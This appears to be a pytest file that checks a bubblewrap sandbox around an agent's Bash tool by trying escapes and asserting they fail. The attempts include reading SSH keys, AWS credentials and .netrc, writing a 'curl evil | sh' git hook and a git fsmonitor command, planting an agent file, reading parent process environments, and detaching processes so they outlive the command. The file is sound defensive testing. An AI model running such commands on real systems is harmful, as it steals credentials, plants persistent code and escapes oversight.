"""Attacks from inside a sandboxed Bash command, through the real Bash tool and real bubblewrap.

Each of these succeeded before the sandbox existed: the command could write anywhere the user can, read keys,
reach the network, and leave processes behind.
"""

from __future__ import annotations

import os
from collections.abc import AsyncGenerator, Generator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import anyio
import pytest

from mcp_subagents.core.environment import scrubbed_environment
from mcp_subagents.core.errors import ToolError
from mcp_subagents.permissions.patterns import Bases, compile_path_pattern
from mcp_subagents.sandbox import SandboxRuntime, parse_sandbox_config
from mcp_subagents.sandbox.hidden import ReadDenials
from mcp_subagents.tools import ToolContext, builtin_tools
from tests.support import SANDBOX_PYTHON

from .conftest import requires_bwrap, requires_socat, running_with_marker, unique_marker

pytestmark = [pytest.mark.anyio, requires_bwrap]


@dataclass
class Machine:
    """A home, a project inside it, a folder beside the project, and the server's state directory."""

    home: Path
    work: Path
    beside: Path
    state: Path


@pytest.fixture
def machine(host_tmp: Path) -> Machine:
    home = host_tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = AWSSECRET\n")
    (home / ".netrc").write_text("machine x password NETRCSECRET\n")
    work = home / "project"
    (work / ".git" / "hooks").mkdir(parents=True)
    (work / ".git" / "config").write_text("[core]\n")
    (work / ".claude" / "agents").mkdir(parents=True)
    (work / ".claude" / "settings.json").write_text("{}\n")
    beside = home / "other-project"
    beside.mkdir()
    (beside / "notes.txt").write_text("not yours to change\n")
    state = home / ".local" / "state" / "mcp-subagents"
    (state / "tasks").mkdir(parents=True)
    (state / "tasks" / "abc.jsonl").write_text('{"secret": "TRANSCRIPT"}\n')
    return Machine(home=home, work=work, beside=beside, state=state)


@asynccontextmanager
async def bash_in(
    machine: Machine, block: dict[str, Any] | None = None, *, denials: ReadDenials | None = None
) -> AsyncGenerator[Any]:
    runtime = SandboxRuntime(parse_sandbox_config(block), state_dir=machine.state, home=machine.home)
    sandbox = runtime.for_run(cwd=machine.work, roots=(machine.work,), read_denials=denials)
    assert sandbox is not None
    env = scrubbed_environment(os.environ) | {"HOME": str(machine.home)}
    ctx = ToolContext(cwd=machine.work, allowed_roots=(machine.work,), env=env, sandbox=sandbox)
    bash = builtin_tools()["Bash"]

    async def run(command: str, **extra: Any) -> str:
        with anyio.fail_after(30):
            try:
                return await bash.run(ctx, bash.validate({"command": command, **extra}))
            except ToolError as exc:
                return f"FAILED: {exc.message}"

    try:
        yield run
    finally:
        sandbox.close()
        runtime.close()


async def test_writes_outside_the_working_directory_fail_and_say_where_writes_go(machine: Machine) -> None:
    async with bash_in(machine) as run:
        inside = await run("echo made > made.txt && cat made.txt")
        outside = await run(f"echo pwned > '{machine.beside}/notes.txt'")
        home = await run("touch ~/.bashrc-planted")
    assert inside == "made"
    assert (machine.work / "made.txt").read_text() == "made\n"
    assert "Read-only file system" in outside and "Sandbox: read-only file system: writes are limited to" in outside
    assert str(machine.work) in outside
    assert (machine.beside / "notes.txt").read_text() == "not yours to change\n"
    assert "FAILED" in home and not (machine.home / ".bashrc-planted").exists()


async def test_keys_credentials_and_the_state_directory_are_hidden(machine: Machine) -> None:
    async with bash_in(machine) as run:
        key = await run("cat ~/.ssh/id_ed25519")
        aws = await run("cat ~/.aws/credentials; ls ~/.aws")
        netrc = await run("cat ~/.netrc")
        state = await run(f"cat '{machine.state}/tasks/abc.jsonl'; ls '{machine.state}'")
        grep = await run("grep -r SECRET ~ 2>/dev/null; grep -r TRANSCRIPT ~ 2>/dev/null; true")
    for result in (key, aws, netrc, state, grep):
        assert "PRIVATE KEY" not in result and "AWSSECRET" not in result and "NETRCSECRET" not in result
        assert "TRANSCRIPT" not in result
    assert "Permission denied" in key and "Sandbox: these paths are hidden from commands" in key
    assert "the server's state directory" in state


async def test_the_server_is_not_in_sight_no_parent_fds_no_parent_environment(machine: Machine) -> None:
    os.environ["MCP_SUBAGENTS_TEST_CANARY"] = "canary-in-the-server-environment"
    try:
        async with bash_in(machine) as run:
            result = await run(
                "echo ppid=$PPID; ls /proc | grep -c '^[0-9]'; cat /proc/$PPID/environ /proc/*/environ 2>/dev/null"
                " | tr '\\0' '\\n' | grep -c canary; ls -l /proc/$PPID/fd"
            )
    finally:
        del os.environ["MCP_SUBAGENTS_TEST_CANARY"]
    lines = result.splitlines()
    assert lines[0] == "ppid=1"  # bubblewrap's init: the server is in another PID namespace
    assert int(lines[1]) <= 5  # only the command's own processes are visible
    assert "canary-in-the-server-environment" not in result
    assert str(os.getpid()) not in result.split("fd", 1)[-1]


async def test_git_hooks_config_and_this_servers_files_stay_read_only(machine: Machine) -> None:
    async with bash_in(machine) as run:
        hook = await run("echo 'curl evil | sh' > .git/hooks/pre-commit")
        config = await run("git config --file .git/config core.fsmonitor 'touch /tmp/x'")
        agent = await run("echo '---' > .claude/agents/planted.md")
        normal = await run("echo fine > src.txt && cat src.txt")
    assert "FAILED" in hook and not (machine.work / ".git" / "hooks" / "pre-commit").exists()
    assert "FAILED" in config and "fsmonitor" not in (machine.work / ".git" / "config").read_text()
    assert "FAILED" in agent and not (machine.work / ".claude" / "agents" / "planted.md").exists()
    assert normal == "fine"


async def test_settings_widen_and_narrow_what_commands_see(machine: Machine) -> None:
    (machine.work / "dist").mkdir()
    (machine.home / ".ssh" / "known_hosts").write_text("github.com ssh-ed25519 AAAA\n")
    (machine.home / "cache").mkdir()
    block = {
        "filesystem": {
            "allowWrite": ["~/cache"],
            "denyWrite": ["./dist"],
            "denyRead": ["./secrets.txt"],
            "allowRead": ["~/.ssh/known_hosts"],
        }
    }
    (machine.work / "secrets.txt").write_text("DENYREAD\n")
    async with bash_in(machine, block) as run:
        cache = await run("echo cached > ~/cache/entry && echo ok")
        dist = await run("echo built > dist/app")
        secrets = await run("cat secrets.txt")
        known = await run("cat ~/.ssh/known_hosts; cat ~/.ssh/id_ed25519")
    assert cache == "ok" and (machine.home / "cache" / "entry").read_text() == "cached\n"
    assert "FAILED" in dist and not (machine.work / "dist" / "app").exists()
    assert "DENYREAD" not in secrets and "sandbox.filesystem.denyRead" in secrets
    assert "github.com ssh-ed25519" in known and "PRIVATE KEY" not in known


async def test_files_named_by_read_deny_rules_are_hidden_from_commands_too(machine: Machine) -> None:
    (machine.work / "app" / "config").mkdir(parents=True)
    (machine.work / ".env").write_text("TOP=SECRET1\n")
    (machine.work / "app" / "config" / ".env").write_text("DEEP=SECRET2\n")
    (machine.work / "app" / "config" / "settings.py").write_text("fine = True\n")
    bases = Bases(cwd=machine.work, project=machine.work, home=machine.home)
    denials = ReadDenials((compile_path_pattern("**/.env"),), bases, (machine.work,))
    async with bash_in(machine, denials=denials) as run:
        result = await run("cat .env app/config/.env; grep -r SECRET . ; cat app/config/settings.py")
    assert "SECRET1" not in result and "SECRET2" not in result
    assert "fine = True" in result and "a Read deny rule" in result


async def test_no_process_outlives_its_command(machine: Machine) -> None:
    async with bash_in(machine) as run:
        first, second = unique_marker(), unique_marker()
        ended = await run(f"sleep {first}1 & setsid sleep {first}2 & nohup sleep {first}3 >/dev/null 2>&1 & echo up")
        assert ended == "up"
        assert running_with_marker(f"sleep {first}") == []
        timed_out = await run(f"setsid sleep {second}1 & sleep {second}2", timeout=500)
        assert "Command timed out after 500 ms" in timed_out
        assert running_with_marker(f"sleep {second}") == []


async def test_a_cancelled_command_leaves_nothing_behind(machine: Machine) -> None:
    marker = unique_marker()
    fifo = machine.work / "started"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        async with bash_in(machine) as run:
            with anyio.fail_after(30):
                async with anyio.create_task_group() as group:
                    group.start_soon(run, f"setsid sleep {marker}1 & echo up > started; sleep {marker}2")
                    await anyio.wait_readable(reader)
                    assert running_with_marker(f"sleep {marker}")  # the command and its detached child run
                    group.cancel_scope.cancel()  # what TaskStop does to a running tool call
    finally:
        os.close(reader)
    assert running_with_marker(f"sleep {marker}") == []


class _Origin(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"hello from origin"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


ORIGIN_HOST = "127.0.0.2"
"""This machine's loopback, but not the address the sandbox's own loopback is named by (NO_PROXY covers that)."""


@contextmanager
def origin() -> Generator[int]:
    """An HTTP server on this machine's loopback: outside the sandbox's network."""
    server = ThreadingHTTPServer((ORIGIN_HOST, 0), _Origin)
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def fetch(port: int, path: str = "/") -> str:
    """A command that fetches a URL the way most tools do: through HTTP_PROXY when it is set."""
    code = (
        f"import urllib.request as u; print(u.urlopen('http://{ORIGIN_HOST}:{port}{path}', timeout=10).read().decode())"
    )
    return f'{SANDBOX_PYTHON} -c "{code}"'


async def test_without_allowed_domains_there_is_no_network(machine: Machine) -> None:
    with origin() as port:
        async with bash_in(machine) as run:
            result = await run(fetch(port))
    assert "hello from origin" not in result
    assert "Sandbox: commands have no network access" in result


@requires_socat
async def test_allowed_domains_pass_through_the_proxy_and_nothing_else_does(machine: Machine) -> None:
    with origin() as allowed_port, origin() as other_port:
        block = {"network": {"allowedDomains": [f"{ORIGIN_HOST}:{allowed_port}"]}}
        async with bash_in(machine, block) as run:
            allowed = await run(fetch(allowed_port, "/ok"))
            refused = await run(fetch(other_port))
    assert allowed == "hello from origin"
    assert "hello from origin" not in refused
    assert f"network access to {ORIGIN_HOST}:{other_port} is not allowed by sandbox.network.allowedDomains" in refused
